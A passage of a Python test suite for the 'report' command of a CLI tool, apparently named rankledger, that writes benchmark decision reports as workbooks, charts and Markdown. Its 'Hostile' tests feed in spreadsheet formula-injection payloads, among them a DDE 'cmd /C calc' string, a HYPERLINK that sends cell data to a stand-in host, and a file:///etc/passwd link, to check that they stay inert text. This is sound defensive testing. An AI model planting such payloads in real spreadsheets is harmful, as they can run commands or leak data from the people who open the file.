"""End-to-end tests of `rankledger report`: test_report.py PROGRAM. Standard library only."""

import copy
import json
import math
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import unittest
import xml.etree.ElementTree as ElementTree
import zipfile

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import workbook_parts  # noqa: E402

PROGRAM = os.path.abspath(sys.argv.pop(1))
SAMPLES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "summary")
# Of accept.json and of both groups of groups.json, in the order in which they are written.
CHARTS = (
    "memory",
    "lifecycle",
    "throughput",
    "frontier",
    "communication",
    "step_times",
    "margins",
)
ALL_FILES = ["charts/%s.%s" % (name, form) for name in CHARTS for form in ("svg", "png")] + [
    "report.xlsx", "report.pdf", "report.html", "report.md"]
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
with open(PROGRAM, "rb") as program:
    SANITIZED = b"__asan_init" in program.read()


def sample(name):
    with open(os.path.join(SAMPLES, name), encoding="utf-8") as file:
        return json.load(file)


class Report(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.mkdtemp(prefix="rankledger-report-")
        self.output = os.path.join(self.folder, "out")

    def tearDown(self):
        shutil.rmtree(self.folder)

    def path(self, name):
        return os.path.join(self.folder, name)

    def run_report(self, *arguments, expect=0, environment=None, **more):
        result = subprocess.run([PROGRAM, "report", *arguments], capture_output=True, text=True,
                                env={**os.environ, **(environment or {})}, cwd=self.folder, **more)
        self.assertEqual(result.returncode, expect, result.stderr)
        return result

    def report_sample(self, name, *arguments, **more):
        return self.run_report("--output", self.output, *arguments, os.path.join(SAMPLES, name),
                               **more)

    def report_summary(self, summary, *arguments, **more):
        with open(self.path("summary.json"), "w", encoding="utf-8") as file:
            json.dump(summary, file)
        return self.run_report("--output", self.output, *arguments, self.path("summary.json"),
                               **more)

    def files(self):
        """Relative paths and bytes of everything below the output folder."""
        found = {}
        for folder, _, names in os.walk(self.output):
            for name in names:
                path = os.path.join(folder, name)
                with open(path, "rb") as file:
                    found[os.path.relpath(path, self.output)] = file.read()
        return found

    def workbook(self):
        return zipfile.ZipFile(os.path.join(self.output, "report.xlsx"))

    def book(self):
        """The workbook, checked for what a spreadsheet program would offer to repair."""
        return workbook_parts.check(os.path.join(self.output, "report.xlsx"))

    def cells(self, sheet):
        """Row of cells as {column letters: text or number} of a sheet, by row number."""
        rows = {}
        for place, content in self.book().cells(sheet).items():
            column, row = re.match("([A-Z]+)([0-9]+)", place).groups()
            rows.setdefault(int(row), {})[column] = content
        return rows


class Files(Report):
    def test_all_formats_are_written_and_named(self):
        result = self.report_sample("accept.json")
        self.assertEqual(sorted(self.files()), sorted(ALL_FILES))
        self.assertEqual(result.stdout.splitlines(),
                         [os.path.join(self.output, name) for name in ALL_FILES])
        self.assertEqual(result.stderr, "")

    def test_the_default_folder_is_report(self):
        self.run_report("--format", "md", os.path.join(SAMPLES, "accept.json"))
        self.assertTrue(os.path.exists(self.path("report/report.md")))

    def test_formats_can_be_chosen_and_other_files_stay(self):
        os.makedirs(self.output)
        with open(os.path.join(self.output, "mine.txt"), "w") as file:
            file.write("mine")
        self.report_sample("accept.json", "--format", "md,svg")
        self.assertEqual(sorted(self.files()), sorted(
            ["charts/%s.svg" % name for name in CHARTS] + ["mine.txt", "report.md"]))

    def test_pages_of_an_earlier_report_are_told_of_and_stay(self):
        self.report_sample("accept.json", "--format", "md,html")
        result = self.report_sample("tune.json", "--format", "md")
        self.assertIn("warning: " + self.output + " still holds report.html of an earlier report\n",
                      result.stderr)
        self.assertNotRegex(self.files()["report.md"].decode(), r"\n#### [^\n]*\n\n#",
                            "a heading without words below")

    def test_without_a_font_that_is_said_and_words_need_none(self):
        nothing = os.path.join(self.folder, "fonts.conf")
        with open(nothing, "w") as file:
            file.write("<fontconfig><dir>/nonexistent</dir></fontconfig>")
        environment = {"FONTCONFIG_FILE": nothing}
        result = self.report_sample("accept.json", environment=environment, expect=4)
        self.assertIn("fontconfig finds no font", result.stderr)
        self.assertFalse(os.path.exists(self.output))
        self.report_sample("accept.json", "--format", "md", environment=environment)

    def test_charts_of_an_earlier_report_are_told_of_and_stay(self):
        self.report_sample("groups.json")
        result = self.report_sample("accept.json")
        self.assertRegex(result.stderr, r"out/charts still holds \d+ charts of an earlier report\n$")
        self.assertIn("charts/memory-1.svg", self.files())
        shutil.rmtree(self.output)
        self.report_sample("accept.json")
        with open(os.path.join(self.output, "charts", "memory-notes.txt"), "w") as file:
            file.write("mine")
        self.assertEqual(self.report_sample("accept.json").stderr, "")

    def test_parents_of_the_folder_are_created(self):
        self.output = self.path("a/b/c")
        self.report_sample("accept.json", "--format", "md")
        self.assertEqual(sorted(self.files()), ["report.md"])

    def test_equal_input_gives_equal_bytes_everywhere(self):
        self.report_sample("accept.json")
        first = self.files()
        shutil.rmtree(self.output)
        self.report_sample("accept.json", environment={
            "LC_ALL": "de_DE.UTF-8", "LANG": "de_DE.UTF-8", "TZ": "Asia/Kathmandu",
            "TMPDIR": "/nowhere", "HOME": "/nowhere"})
        second = self.files()
        self.assertEqual(sorted(first), sorted(second))
        for name, content in first.items():
            self.assertEqual(content, second[name], name + " differs")

    def test_the_date_can_be_set(self):
        self.report_sample("accept.json", "--format", "xlsx",
                           environment={"SOURCE_DATE_EPOCH": "1700000000"})
        self.assertIn(b"2023-11-14T22:13:20Z", self.workbook().read("docProps/core.xml"))
        self.report_sample("accept.json", "--format", "xlsx", expect=2,
                           environment={"SOURCE_DATE_EPOCH": "yesterday"})

    def test_every_sample_in_every_language_is_a_report(self):
        for name in sorted(os.listdir(SAMPLES)):
            for language in ("en", "zh"):
                with self.subTest(name=name, language=language):
                    self.report_sample(name, "--language", language)
                    self.assertIn("report.xlsx", self.files())
                    shutil.rmtree(self.output)

    def test_groups_have_their_own_charts(self):
        self.report_sample("groups.json", "--format", "svg,md")
        self.assertEqual(sorted(self.files()), sorted(
            ["charts/%s-%d.svg" % (name, group) for name in CHARTS for group in (1, 2)] +
            ["report.md"]))


class Workbook(Report):
    SHEETS = ["Decision", "Charts", "Candidates", "What if", "Margins", "Gates", "Ledger", "Memory",
              "Communication", "Step times", "Checkpoints", "Conditions", "Failures", "Sources",
              "Invalid sources"]

    def test_every_part_is_sound(self):
        for name in ("accept.json", "groups.json", "all_failed.json", "no_evidence.json"):
            for language in ("en", "zh"):
                with self.subTest(name=name, language=language):
                    self.report_sample(name, "--format", "xlsx", "--language", language)
                    self.book()

    def test_cells_are_the_numbers_of_the_summary(self):
        self.report_sample("accept.json", "--format", "xlsx")
        rows = self.cells("Candidates")
        heading = {text: column for column, text in rows[1].items()}
        zero1 = rows[2]
        self.assertEqual(zero1[heading["Strategy"]], "zero1")
        self.assertEqual(zero1[heading["Peak memory (MiB)"]], 15120.5)
        self.assertEqual(zero1[heading["Throughput (tokens/s)"]], 451000)
        self.assertAlmostEqual(zero1[heading["Of the limit"]], 15120.5 / 15258.7890625, places=14)

    def test_what_is_not_measured_is_an_empty_cell(self):
        self.report_sample("accept.json", "--format", "xlsx")
        rows = self.cells("Candidates")
        heading = {text: column for column, text in rows[1].items()}
        failed = next(row for row in rows.values()
                      if row.get(heading["Strategy"]) == "fsdp_full_shard")
        for name in ("Rank", "Peak memory (MiB)", "Throughput (tokens/s)", "Step time (ms)"):
            self.assertNotIn(heading[name], failed)

    def test_failures_and_checkpoints_have_sheets(self):
        self.report_sample("accept.json", "--format", "xlsx")
        checkpoints = [list(row.values()) for row in self.cells("Checkpoints").values()]
        failures = [list(row.values()) for row in self.cells("Failures").values()]
        self.assertEqual(checkpoints[0][1], "Kind of checkpoint")
        self.assertEqual(checkpoints[1][1:7],
                         ["full: one file", 1, 2048.5, 1200.5, 900.25, "yes"])
        self.assertEqual(checkpoints[2][1:6],
                         ["sharded: one file a rank", 5, 2048.75, 300.5, "not known"])
        self.assertEqual(failures[1][0], "fsdp_full_shard")

    def test_intervals_stand_beside_step_times(self):
        self.report_sample("accept.json", "--format", "xlsx")
        rows = self.cells("Candidates")
        columns = {title: column for column, title in rows[1].items()}
        zero1 = next(row for row in rows.values() if "zero1" in row.values())
        self.assertEqual([zero1[columns[title]] for title in (
            "Step time (ms)", "Step time from (ms, 95 % interval)",
            "Step time to (ms, 95 % interval)", "Interval rests on")],
            [290.625, 288.5, 292.25, "rounds"])

    def test_raw_step_times_are_the_samples(self):
        self.report_sample("accept.json", "--format", "xlsx")
        samples = sample("accept.json")["groups"][0]["candidates"][1]["samples"]["step_times_ms"]
        rows = self.book().table("Step times", 1)
        mine = [row["Time (ms)"] for row in rows if row["Strategy"] == "zero1"]
        self.assertEqual(mine, [time for rank in samples for time in rank])
        self.assertEqual([row["Strategy"] for row in rows][:1], ["zero1"])  # the best ranked first

    def test_steps_of_losses_count_from_0_as_in_a_failure(self):
        summary = sample("accept.json")
        summary["groups"][0]["candidates"][1]["samples"]["losses"] = [3, 2.5, 2.25]
        self.report_summary(summary, "--format", "xlsx")
        rows = self.book().table("Losses", 1)
        self.assertEqual([(row["Optimizer step"], row["Loss"]) for row in rows],
                         [(0, 3), (1, 2.5), (2, 2.25)])

    def test_more_samples_than_a_sheet_takes_are_cut_and_said(self):
        summary = sample("accept.json")
        for index, candidate in enumerate(summary["groups"][0]["candidates"]):
            candidate["samples"]["losses"] = [2.5] * 30000 if index < 2 else []
        self.report_summary(summary, "--format", "xlsx")
        strings = self.workbook().read("xl/sharedStrings.xml").decode()
        self.assertIn("[cut: 10,000 more rows", strings)

    def test_sheets_are_set_up_for_reading_and_printing(self):
        self.report_sample("accept.json", "--format", "xlsx")
        book = self.book()
        self.assertEqual(list(book.sheets), self.SHEETS)
        for name, part in book.sheets.items():
            text = book.zip.read(part).decode()
            self.assertIn('orientation="landscape"', text)
            self.assertIn("&amp;P", text)
            self.assertIn("<cols>", text)
            if name not in ("Decision", "Charts", "What if"):
                self.assertIn('state="frozen"', text)
                self.assertIn("<tablePart ", text)
                # Every heading has a note.
                notes = next(target for kind, target in book.relations(part).values()
                             if kind == "comments")
                table = next(target for kind, target in book.relations(part).values()
                             if kind == "table")
                self.assertEqual(book.zip.read(notes).count(b"<comment "),
                                 book.zip.read(table).count(b"<tableColumn "), name)
        self.assertIn("Print_Titles", str(book.names))
        self.assertEqual(book.zip.read("xl/media/image1.png")[:8], b"\x89PNG\r\n\x1a\n")
        self.assertIn("xl/media/image2.png", book.parts)

    def test_names_stand_for_limits_and_results(self):
        self.report_sample("accept.json", "--format", "xlsx")
        book = self.book()
        for name, content in (("decision", "Decision: accept zero1"), ("selected_strategy", "zero1"),
                              ("selected_peak_memory_mib", 15120.5),
                              ("selected_throughput", 451000),
                              ("limit_memory_mib", 15258.7890625),
                              ("limit_max_communication", 0.25),
                              ("what_if_memory_limit", 15258.7890625)):
            sheet, place = book.named(name)
            self.assertEqual(book.cells(sheet)[place], content, name)

    def test_bars_leave_out_runs_that_failed(self):
        summary = sample("accept.json")
        group = summary["groups"][0]
        group["candidates"][0]["failure"] = {"reason": "out of memory"}
        self.report_summary(summary, "--format", "xlsx")
        book = self.book()
        root = book.xml(book.sheets["Candidates"])
        rows = self.cells("Candidates")
        ranges = [node.get("sqref") for node in root.iter(SHEET + "conditionalFormatting")]
        failed = next(number for number, row in rows.items() if "ddp" in row.values())
        covered = [re.findall("[0-9]+", part) for text in ranges for part in text.split()]
        self.assertEqual(len(ranges), 2)  # memory and throughput
        for first, last in covered:
            self.assertFalse(int(first) <= failed <= int(last))
        for node in root.iter(SHEET + "dataBar"):
            self.assertEqual([(rule.get("type"), rule.get("val")) for rule in
                              node.iter(SHEET + "cfvo")][0], ("num", "0"))

    def test_links_lead_from_the_decision_to_the_sources(self):
        self.report_sample("accept.json", "--format", "xlsx")
        book = self.book()

        def follow(sheet, text):
            cells = book.cells(sheet)
            links = {node.get("ref"): node.get("location") for node in
                     book.xml(book.sheets[sheet]).iter(SHEET + "hyperlink")}
            place = next(ref for ref in links if cells[ref] == text)
            target, cell = links[place].rsplit("!", 1)
            row = book.cells(target[1:-1])
            return target[1:-1], [content for at, content in row.items()
                                  if re.fullmatch("[A-Z]+" + cell[1:], at)]
        sheet, row = follow("Decision", "zero2")
        self.assertEqual(sheet, "Candidates")
        self.assertIn("zero2", row)
        sheet, row = follow("Candidates", "zero2")
        self.assertEqual((sheet, row[:2]), ("Gates", ["zero2", "runtime"]))
        sheet, row = follow("Candidates", "runs/zero2.json")
        self.assertEqual((sheet, row[0]), ("Sources", "runs/zero2.json"))
        self.assertEqual(follow("Sources", "zero2")[0], "Candidates")
        self.assertEqual(follow("Decision", "What if")[0], "What if")

    def test_tables_survive_headings_from_the_data(self):
        summary = sample("accept.json")
        phases = summary["groups"][0]["candidates"][1]["memory"]["phases"]
        phases[0]["by_category"] = {"Ärger": 1, "ärger": 2, "ÄRGER": 3, "x" * 300: 4,
                                    "x" * 300 + "y": 5, "_x000D_": 6, "a\nb": 7, "PEAK": 8}
        self.report_summary(summary, "--format", "xlsx")
        headings = list(self.cells("Memory")[1].values())
        self.assertIn("Ärger (MiB)", headings)
        self.assertIn("ärger (MiB) (2)", headings)
        self.assertIn("ÄRGER (MiB) (3)", headings)

    def test_the_properties_say_what_it_is(self):
        self.report_sample("accept.json", "--format", "xlsx")
        core = self.workbook().read("docProps/core.xml").decode()
        for word in ("<dc:title>", "<dc:subject>", "<dc:creator>", "<cp:keywords>",
                     "<dcterms:created"):
            self.assertIn(word, core)

    def template(self, report):
        os.makedirs(self.path("template/language"), exist_ok=True)
        for name, content in (("report.json", report), ("language/en.json", {})):
            with open(self.path("template/" + name), "w") as file:
                json.dump(content, file)
        return ("--format", "xlsx", "--template", self.path("template"))

    def test_a_template_chooses_sheets_and_their_order(self):
        options = self.template({"organisation": "A & <B>",
                                 "xlsx": {"sheets": ["what_if", "candidates"]}})
        self.report_sample("accept.json", *options)
        book = self.book()
        self.assertEqual(list(book.sheets), ["What if", "Candidates"])
        core = book.zip.read("docProps/core.xml").decode()
        self.assertIn("<dc:creator>A &amp; &lt;B&gt;</dc:creator>", core)
        self.assertIn("<Company>A &amp; &lt;B&gt;</Company>",
                      book.zip.read("docProps/app.xml").decode())
        cells = {place: cell for place, cell in book.cells("What if").items() if cell != ""}
        self.assertIn("zero1", cells.values())
        self.report_sample("accept.json", *self.template({"xlsx": {"sheets": ["what_if"]}}))
        alone = self.book()  # copies of the candidates' numbers where their sheet is not there
        self.assertEqual(list(alone.sheets), ["What if"])
        self.assertEqual({place: cell for place, cell in alone.cells("What if").items()
                          if cell != ""}, cells)

    def test_colours_are_those_of_the_theme(self):
        options = self.template({})
        with open(self.path("template/theme.json"), "w") as file:
            json.dump({"inks": {"good": {"light": "#004455"}}}, file)
        self.report_sample("accept.json", *options)
        styles = self.workbook().read("xl/styles.xml").decode()
        self.assertIn('<color rgb="FF004455"/>', styles)
        self.assertNotIn("1E6B3A", styles)

    def test_texts_have_contrast_on_their_grounds(self):
        def luminance(colour):
            parts = [byte / 255 for byte in bytes.fromhex(colour[-6:])]
            parts = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4
                     for part in parts]
            return 0.2126 * parts[0] + 0.7152 * parts[1] + 0.0722 * parts[2]
        options = self.template({})
        for inks in ({}, {"good": {"light": "#656565"}}):
            with open(self.path("template/theme.json"), "w") as file:
                json.dump({"inks": inks}, file)
            self.report_sample("accept.json", *options)
            root = self.book().xml("xl/styles.xml")

            def colour(node, name, missing):
                found = next(node.iter(SHEET + name), None)
                return missing if found is None else found.get("rgb") or missing
            fonts = [colour(font, "color", "FF000000") for font in root.find(SHEET + "fonts")]
            fills = [colour(fill, "fgColor", "FFFFFFFF") for fill in root.find(SHEET + "fills")]
            for style in root.find(SHEET + "cellXfs"):
                pair = fonts[int(style.get("fontId"))], fills[int(style.get("fillId"))]
                low, high = sorted(map(luminance, pair))
                self.assertGreaterEqual((high + 0.05) / (low + 0.05), 4.5, pair)

    def test_a_comparison_is_a_sound_workbook_under_any_template(self):
        with open(self.path("changes.json"), "w") as file:
            subprocess.run([PROGRAM, "compare", "--format", "json",
                            os.path.join(SAMPLES, "accept.json"), os.path.join(SAMPLES, "tune.json")],
                           stdout=file, check=False)
        for options in (("--format", "xlsx"), self.template({"xlsx": {"sheets": ["candidates"]}})):
            self.run_report("--output", self.output, *options, self.path("changes.json"))
            self.assertGreater(len(self.book().sheets), 4)

    def test_sheet_names_are_those_of_the_language(self):
        self.report_sample("accept.json", "--format", "xlsx", "--language", "zh")
        names = list(self.book().sheets)
        self.assertEqual(len(names), len(self.SHEETS))
        self.assertEqual(names[0], "决策")

    def test_a_template_names_sheets_and_a_bad_name_is_refused(self):
        os.makedirs(self.path("template/language"))

        def write(texts):
            with open(self.path("template/language/en.json"), "w") as file:
                json.dump(texts, file)
        write({"sheet.gates": "Hurdles"})
        self.report_sample("accept.json", "--format", "xlsx", "--template", self.path("template"))
        self.assertIn(b'name="Hurdles"', self.workbook().read("xl/workbook.xml"))
        for name in ("A1", "R1C1", "2024", "it's a, b!", "50 % of #1", "<&>"):
            write({"sheet.candidates": name})
            self.report_sample("accept.json", "--format", "xlsx", "--template",
                               self.path("template"))
            self.assertIn(name, self.book().sheets)
        for name in ("", "a/b", "x" * 32, "Ledger", "'x"):
            write({"sheet.gates": name})
            result = self.report_sample("accept.json", "--format", "xlsx", "--template",
                                        self.path("template"), expect=3)
            self.assertIn("names a sheet", result.stderr)
        write({"sheet.gate": "x"})
        result = self.report_sample("accept.json", "--template", self.path("template"), expect=3)
        self.assertIn("en.json:1:", result.stderr)


class Hostile(Report):
    FORMULAS = ["=1+1", "+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
                '=HYPERLINK("http://192.0.2.1/?x="&A1,"A100")', "http://192.0.2.1/a",
                "mailto:a@b.example", "internal:Sheet1!A1", "file:///etc/passwd", "{=1+1}"]

    def hostile(self):
        summary = sample("accept.json")
        group = summary["groups"][0]
        for index, text in enumerate(self.FORMULAS):
            candidate = copy.deepcopy(group["candidates"][1])
            candidate.update(label=text, strategy=text, rank=None, eligible=False)
            candidate["failure"] = {"reason": text + " \u202e & < > \" \ufffe \u0007 /home/bob/x"}
            candidate["gates"][0].update(detail=text, unit=text, name=text)
            candidate["memory"]["phases"][0]["by_category"] = {text: 1 + index}
            candidate["notes"] = [{"id": "no.such.id", "text": text, "values": {}}]
            group["candidates"].append(candidate)
            summary["sources"].append({"path": text, "strategy": text, "failure": {"x": text},
                                       "decision": text, "warnings": [text, "_x000D_"]})
        group["label"] = "=1+1"
        group["key"]["model"] = "合成变换器多层感知机" * 13
        summary["sources"][0]["failure"] = "E" * 32773
        summary["rejected_sources"] = [{"path": "=1", "errors": [
            {"message": "\u001b[31m" + "\U0001F600" * 16400, "rule": "@x", "severity": "=1"}]}]
        summary["decision"]["reason"] = "=1+1 [x](http://192.0.2.1/) <b>@someone</b> |"
        return summary

    def test_no_text_becomes_a_formula_or_a_link(self):
        self.report_summary(self.hostile())
        whole = self.book()
        book = whole.zip
        for part in book.namelist():
            self.assertNotIn("externalLink", part)
            text = book.read(part) if part.endswith((".xml", ".rels")) else b""
            if part != whole.sheets["What if"]:  # whose formulas name cells, words and limits alone
                self.assertNotIn(b"<f>", text, part)
                self.assertNotIn(b"<f ", text, part)
            for link in re.findall(b"<hyperlink [^>]*>", text):  # into this workbook alone
                self.assertRegex(link, b"location=\"'[A-Za-z ]+'![A-Z]+[0-9]+\"")
                self.assertNotIn(b"r:id", link)
            self.assertNotIn(b'TargetMode="External"', text, part)
        formulas = re.findall("<f>(.*?)</f>", book.read(whole.sheets["What if"]).decode())
        self.assertGreater(len(formulas), 100)
        for text in self.FORMULAS:
            self.assertFalse(len(text) > 2 and [formula for formula in formulas if text in formula])
        strings = book.read("xl/sharedStrings.xml").decode()
        self.assertIn("=HYPERLINK(", strings)
        self.assertIn("_x005F_x000D_", strings)
        self.assertIn("/home/&lt;user&gt;/x", strings)
        self.assertNotIn("bob", strings)

    def test_texts_fit_their_cells(self):
        self.report_summary(self.hostile(), "--format", "xlsx")
        root = ElementTree.fromstring(self.workbook().read("xl/sharedStrings.xml"))
        texts = ["".join(node.itertext()) for node in root]
        longest = max(len(text.encode("utf-16-le")) // 2 for text in texts)
        self.assertLessEqual(longest, 32767)
        self.assertTrue(any(re.search("EEE… \\[cut: [0-9]+ more characters]$", text)
                            for text in texts))

    def test_markdown_is_short_and_says_what_a_reader_asks(self):
        """In this order: verdict, three numbers, candidates, what would change it, what next,
        charts, how it was measured, what was left out, where the rest is."""
        self.report_sample("tune.json")
        text = self.files()["report.md"].decode()
        parts = ["## Decision: tune", "- Peak memory: **16,661 MiB**; limit 15,258.8 MiB; "
                 "1,402.2 MiB over (9.2 %)", "- Throughput: **456,000 tokens/s**; ",
                 "- Exposed communication: **18 %**; limit 25 %; 7 percentage points left",
                 "### Candidates side by side", "| fsdp\\_full\\_shard | run failed | ",
                 "### What would change the answer",
                 "| memory limit | 15,258.8 MiB | below 15,120.5: accept zero2 | ",
                 "### Next actions", "  ```sh\n  rankledger-collect run --strategy zero3 ",
                 "### Charts", "](charts/memory.png)", "### How it was measured",
                 "Sources read: 2; left out: 0", "report.pdf"]
        places = [text.find(part) for part in parts]
        self.assertNotIn(-1, places, parts[places.index(-1)] if -1 in places else "")
        self.assertEqual(places, sorted(places))
        self.assertLess(len(text.splitlines()), 150)

    def test_markdown_has_no_gain_of_a_failed_run(self):
        summary = sample("accept.json")
        failed = summary["groups"][0]["candidates"][-1]
        failed["metrics"]["throughput"] = 500000
        self.report_summary(summary, "--format", "md")
        row = [line for line in self.files()["report.md"].decode().splitlines()
               if line.startswith("| fsdp")][0]
        self.assertIn(" 500,000 | | ", row)

    def test_a_message_whose_values_are_missing_is_said_in_its_own_words(self):
        self.report_sample("accept.json", "--format", "md", "--language", "zh")
        text = self.files()["report.md"].decode()
        self.assertIn("zero1 is the fastest strategy within the limits", text)
        self.assertNotIn("{", text)

    def test_markdown_stays_text(self):
        self.report_summary(self.hostile(), "--format", "md")
        text = self.files()["report.md"].decode()
        self.assertNotIn("](http", text)
        self.assertNotRegex(text, r"(?<!`)@")
        self.assertNotIn("<b>", text.replace("\\<b\\>", ""))
        self.assertNotIn("\u202e", text)

    def test_numbers_are_finite_whatever_their_size(self):
        summary = sample("accept.json")
        metrics = summary["groups"][0]["candidates"][0]["metrics"]
        metrics.update(peak_memory_mb=1e308, throughput=5e-324, step_time_ms=1e-9,
                       communication_ratio=1e17)
        self.report_summary(summary)
        book = self.book()
        for sheet in book.sheets:
            for value in book.cells(sheet).values():
                if isinstance(value, float):
                    self.assertTrue(math.isfinite(value))


class Faults(Report):
    def assert_untouched(self, before):
        self.assertEqual(self.files(), before)
        self.assertEqual([name for name in os.listdir(self.output)
                          if name.startswith(".rankledger")], [])

    def test_usage_faults_say_what_to_type(self):
        for arguments, word in ((["--format", "doc"], "xlsx,pdf,html,md,svg,png"), (["--format", ""], "xlsx"),
                                (["--format", "md,"], "xlsx"), (["--language", "fr"], "en, zh"),
                                (["--output", "-"], "--output DIR"), (["--outptu", "x"], "output")):
            result = self.run_report(*arguments, os.path.join(SAMPLES, "accept.json"), expect=2)
            self.assertIn(word, result.stderr)
            self.assertEqual(len(result.stderr.splitlines()), 1)
        self.run_report(expect=2)
        self.assertEqual(os.listdir(self.folder), [])

    def test_unreadable_input_is_an_input_error(self):
        self.run_report("nowhere.json", expect=3)
        self.assertEqual(os.listdir(self.folder), [])

    def test_a_folder_that_cannot_be_made_is_named(self):
        with open(self.path("file"), "w") as file:
            file.write("x")
        for output in (self.path("file"), self.path("file/below"), "/proc/nowhere/report"):
            result = self.run_report("--output", output, os.path.join(SAMPLES, "accept.json"),
                                     expect=4)
            self.assertIn(output.split("/below")[0].split("/report")[0], result.stderr)
        self.assertEqual(os.listdir(self.folder), ["file"])

    def test_a_new_folder_goes_again_when_nothing_is_written(self):
        def limit():
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
        self.output = self.path("a/b")
        self.report_sample("accept.json", expect=4, preexec_fn=limit)
        self.assertEqual(os.listdir(self.folder), [])

    def test_a_full_disk_leaves_the_old_report(self):
        self.report_sample("tune.json")
        before = self.files()
        for size in (0, 1, 4096, 8192, 16384, 32768):
            def limit(size=size):
                signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
                resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))
            result = self.report_sample("accept.json", expect=4, preexec_fn=limit)
            self.assertIn(self.output, result.stderr)
            self.assert_untouched(before)

    def test_a_file_that_cannot_be_replaced_leaves_the_others(self):
        self.report_sample("tune.json")
        os.remove(os.path.join(self.output, "report.md"))
        os.makedirs(os.path.join(self.output, "report.md"))
        before = self.files()
        result = self.report_sample("accept.json", expect=4)
        self.assertIn("report.md", result.stderr)
        self.assert_untouched(before)

    def test_exhausted_memory_is_an_error_and_leaves_the_old_report(self):
        if SANITIZED:
            self.skipTest("the sanitizer needs the address space")
        self.report_sample("tune.json")
        before = self.files()
        outcomes = set()
        for step in range(60):
            def limit(size=int(24e6 * 1.08 ** step)):
                resource.setrlimit(resource.RLIMIT_AS, (size, size))
            result = subprocess.run(
                [PROGRAM, "report", "--output", self.output, os.path.join(SAMPLES, "accept.json")],
                capture_output=True, text=True, preexec_fn=limit)
            if result.returncode == 127:
                continue  # the loader could not map the libraries
            outcomes.add(result.returncode)
            if result.returncode == 0:
                break
            self.assertEqual(result.returncode, 4, result.stderr)
            self.assert_untouched(before)
        self.assertEqual(outcomes, {0, 4})

    def test_an_interrupt_leaves_the_old_report(self):
        self.report_sample("tune.json")
        before = self.files()
        summary = sample("accept.json")
        group = summary["groups"][0]
        summary["groups"] = [group] * 60
        with open(self.path("large.json"), "w", encoding="utf-8") as file:
            json.dump(summary, file)
        for number in (signal.SIGINT, signal.SIGTERM):
            process = subprocess.Popen(
                [PROGRAM, "report", "--output", self.output, self.path("large.json")],
                stderr=subprocess.PIPE, text=True)
            deadline = time.monotonic() + 60
            while not any(name.startswith(".rankledger") for name in os.listdir(self.output)):
                self.assertLess(time.monotonic(), deadline)
                time.sleep(0.001)
            process.send_signal(number)
            _, message = process.communicate()
            self.assertEqual(process.returncode, 4, message)
            self.assertIn("interrupted", message)
            self.assertIn(self.output, message)
            self.assert_untouched(before)


class Evidence(Report):
    def setUp(self):
        super().setUp()
        self.records = []
        for strategy, peak, throughput in (("ddp", 16661.0, 456000.0), ("zero1", 15593.0, 400000.0)):
            record = {
                "project": "x", "strategy": strategy,
                "workload": {"model": "gpt2_124m", "width": 768, "layers": 12, "micro_batch": 32,
                             "gradient_accumulation": 1, "seq_len": 1024, "dtype": "bf16",
                             "warmup": 2, "repeats": 5, "world_size": 4,
                             "num_parameters": 124475904},
                "hardware": "some GPU", "failure": None, "decision": "stage_completed",
                "evidence_level": "real_multi_gpu_zero_stage",
                "metrics": {"max_step_time_ms": 287.0, "max_peak_memory_mb": peak,
                            "tokens_per_s_proxy": throughput}}
            with open(self.path(strategy + ".json"), "w") as file:
                json.dump(record, file)
            self.records.append(strategy + ".json")

    def test_evidence_gives_the_report_of_its_summary(self):
        limit = ["--memory-limit", "16GiB"]
        self.run_report("--output", self.output, *limit, *self.records)
        direct = self.files()
        shutil.rmtree(self.output)
        subprocess.run([PROGRAM, "analyze", "--output", "summary.json", *limit, *self.records],
                       cwd=self.folder, check=True, stdout=subprocess.DEVNULL)
        self.run_report("--output", self.output, "summary.json")
        # these records have medians only: what needs samples is left out
        self.assertIn("charts/memory.svg", direct)
        self.assertIn("charts/ledger_scale.svg", direct)
        self.assertNotIn("charts/step_times.svg", direct)
        for name, content in self.files().items():
            self.assertEqual(content, direct[name], name + " differs")
        self.assertIn("Decision: accept zero1", direct["report.md"].decode())

    def test_the_title_tells_candidates_of_one_strategy_apart(self):
        with open(self.path(self.records[1])) as file:
            record = json.load(file)
        record["workload"].update(micro_batch=16, gradient_accumulation=2)
        with open(self.path("zero1_16.json"), "w") as file:
            json.dump(record, file)
        with open(self.path("policy.json"), "w") as file:
            json.dump({"memory_limit": "16 GiB", "vary": ["micro_batch", "gradient_accumulation"]},
                      file)
        self.run_report("--output", self.output, "--policy", "policy.json", "zero1_16.json",
                        *self.records)
        self.assertIn("Decision: accept zero1, micro-batch 32, accumulation 1",
                      self.files()["report.md"].decode())

    def test_the_order_of_arguments_does_not_matter(self):
        self.run_report("--output", self.output, *self.records)
        first = self.files()
        self.run_report("--output", self.output, *reversed(self.records))
        self.assertEqual(self.files(), first)

    def test_a_folder_is_evidence(self):
        result = self.run_report("--output", self.output, "--format", "md", ".")
        self.assertEqual(result.stdout, self.output + "/report.md\n")

    def test_a_policy_beside_the_evidence_is_said_not_to_be_applied(self):
        with open(self.path("policy.json"), "w") as file:
            json.dump({"schema": "rankledger.policy/1", "memory_limit": "1 GiB"}, file)
        result = self.run_report("--output", self.output, "--format", "md", "policy.json",
                                 *self.records)
        self.assertEqual(result.stderr, "rankledger: warning: policy.json is passed over: a policy "
                         "is no evidence (--policy takes it)\n")

    def test_invalid_evidence_is_in_the_report_and_in_the_exit_code(self):
        with open(self.path("broken.json"), "w") as file:
            file.write('{"strategy": ')
        result = self.run_report("--output", self.output, *self.records, "broken.json", expect=1)
        self.assertIn("broken.json:1:", result.stderr)
        self.assertIn("broken.json:1:", self.files()["report.md"].decode())
        self.run_report("--output", self.output, *self.records, "nowhere.json", expect=3)

    def test_a_summary_is_not_decided_anew(self):
        result = self.report_sample("accept.json", "--memory-limit", "16GiB", expect=2)
        self.assertIn("give the evidence", result.stderr)

    def test_a_summary_may_come_through_a_pipe(self):
